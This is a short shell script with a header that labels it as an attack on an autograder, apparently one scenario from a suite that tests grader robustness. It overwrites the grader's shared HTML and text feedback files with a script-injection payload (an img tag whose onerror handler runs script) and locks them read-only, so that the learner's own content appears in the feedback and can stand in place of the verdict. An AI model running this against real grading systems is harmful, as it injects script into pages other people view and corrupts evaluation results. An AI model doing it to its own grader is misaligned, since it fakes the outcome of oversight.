# ---
# tries: Writes a page of feedback of its own beside the verdict.
# place: before
# gain: feedback with the learner's scripts in it
# helps: replace-verdict
# ---
for attack_page in /shared/htmlFeedback.html /shared/txtFeedback.txt; do
  echo '<img alt="@NONCE@" src="x" onerror="alert(1)">' > "$attack_page"
  chmod 0444 "$attack_page"
done
